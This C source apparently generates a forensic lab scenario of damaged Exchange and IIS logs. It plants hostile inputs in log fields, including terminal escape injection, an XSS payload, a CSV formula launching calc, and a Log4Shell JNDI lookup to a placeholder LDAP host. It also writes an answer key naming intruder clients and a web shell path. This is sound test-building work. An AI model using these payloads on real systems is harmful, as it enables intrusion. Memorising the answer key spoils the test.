/* damage: a victim whose logs are broken, and hold what would hurt a careless reader. */
#include "lab/story.h"

#include <string.h>
#include <zlib.h>

void tell_damaged(struct lab *l)
{
    static const char *const hostile[] = {
        "\x1b]0;owned\x07\x1b[2J\x1b[31mOK\x1b[0m", "<script>alert(document.domain)</script><img src=x onerror=alert(1)>", "=cmd|' /C calc'!A0", "\",\"injected\",\"", "\xff\xfe\x80 broken \xc3( utf-8", "${jndi:ldap://203.0.113.250/a}",
    };
    for (size_t i = 0; i < sizeof hostile / sizeof *hostile; i++) {
        struct event *e = raid_visit(l, "203.0.113.30", hostile[i], at("2021-02-10T10:00:00") + (int64_t)i * TIME_MINUTE, "GET", i % 2 ? "/owa/auth/logon.aspx" : "/", hostile[(i + 1) % 6], 200);
        e->referer = hostile[(i + 2) % 6];
    }
    /* One attacker's tool writes such a user agent too, into the very lines that matter. */
    struct raid r = someone;
    r.ua = "\x1b[8m<b>hidden</b>";
    const char *path = one_visit(l, &r, web(l, "aspnet_client/larder.aspx"), "/aspnet_client/larder.aspx");
    door(l, "present", true, false);
    truth_door_use(l, truth_door(l, path, "present", "used"), someone.key, 3, &someone.client, 1);
    truth_list(l, "intruder_clients", someone.client);
    truth_list(l, "must_not", "203.0.113.30");
    truth_bool(l, "damage_told", true);
}

static void rewrite(struct lab *l, const char *path, const struct buf *b) { file_put(l, path, (struct str){ (const uint8_t *)b->p, b->n }, at("2021-04-02T09:00:00")); }

static void to_gz(struct lab *l, const char *path)
{
    struct buf b = { 0 }, z = { 0 };
    z_stream   s = { 0 };

    file_slurp(l, path, &b);
    buf_room(&z, b.n + 4096);
    if (deflateInit2(&s, 6, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY) != Z_OK)
        lab_die("zlib does not start");
    s.next_in = (Bytef *)b.p;
    s.avail_in = (uInt)b.n;
    s.next_out = (Bytef *)z.p;
    s.avail_out = (uInt)z.cap;
    if (deflate(&s, Z_FINISH) != Z_STREAM_END)
        lab_die("%s does not compress", path);
    z.n = s.total_out;
    deflateEnd(&s);
    rewrite(l, pool_fmt(&l->keep, "%s.gz", path), &z);
    file_remove(l, path);
    buf_free(&b);
    buf_free(&z);
}

static void to_utf16(struct lab *l, const char *path)
{
    struct buf b = { 0 }, w = { 0 };

    file_slurp(l, path, &b);
    buf_add(&w, "\xff\xfe", 2);
    for (size_t i = b.n >= 3 && b.p[0] == '\xef' ? 3 : 0; i < b.n; i++) {
        buf_chr(&w, b.p[i]);
        buf_chr(&w, 0);
    }
    rewrite(l, path, &w);
    buf_free(&b);
    buf_free(&w);
}

/* Lays NUL over a stretch, as a write that never reached the disk leaves it; cuts the file inside its last line. */
static void to_rubble(struct lab *l, const char *path, bool nul, size_t cut)
{
    struct buf b = { 0 };

    file_slurp(l, path, &b);
    if (nul && b.n > 8192)
        memset(b.p + b.n / 2, 0, 4096);
    b.n -= cut < b.n ? cut : 0;
    rewrite(l, path, &b);
    buf_free(&b);
}

void after_damaged(struct lab *l)
{
    struct buf  b = { 0 };
    const char *logs = l->at.logs, *install = l->at.install;

    to_rubble(l, pool_fmt(&l->keep, "%s/W3SVC1/u_ex210115.log", logs), true, 0);
    to_rubble(l, pool_fmt(&l->keep, "%s/W3SVC2/u_ex210116.log", logs), false, 37);
    to_rubble(l, pool_fmt(&l->keep, "%s/Logging/HttpProxy/Eas/HttpProxy_2021011500-1.LOG", install), true, 211);
    to_gz(l, pool_fmt(&l->keep, "%s/W3SVC1/u_ex210120.log", logs));
    to_gz(l, pool_fmt(&l->keep, "%s/Logging/HttpProxy/Owa/HttpProxy_2021011900-1.LOG", install));
    to_utf16(l, pool_fmt(&l->keep, "%s/Logging/HttpProxy/Ews/HttpProxy_2021011800-1.LOG", install));
    to_utf16(l, pool_fmt(&l->keep, "%s/W3SVC2/u_ex210121.log", logs));
    /* One line of two megabytes in the middle of a day. */
    const char *path = pool_fmt(&l->keep, "%s/W3SVC1/u_ex210211.log", logs);
    file_slurp(l, path, &b);
    buf_str(&b, "2021-02-11 23:59:58 192.0.2.10 GET /owa/ ");
    for (int i = 0; i < 2000000; i++)
        buf_chr(&b, 'A');
    buf_str(&b, " 443 - 203.0.113.30 - - 404 0 0 3\r\n");
    rewrite(l, path, &b);
    buf_free(&b);
}
